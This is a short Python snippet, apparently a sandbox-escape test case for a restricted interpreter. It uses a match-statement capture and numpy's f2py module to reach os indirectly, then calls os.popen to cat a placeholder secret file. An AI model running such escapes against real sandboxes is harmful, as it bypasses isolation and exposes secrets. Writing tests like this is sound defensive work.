"""A pattern captures under a name."""
import numpy as np
module = [np][0]
match getattr:
    case _getattr_:
        print(module.f2py.os.popen("cat @SECRET_FILE@").read())
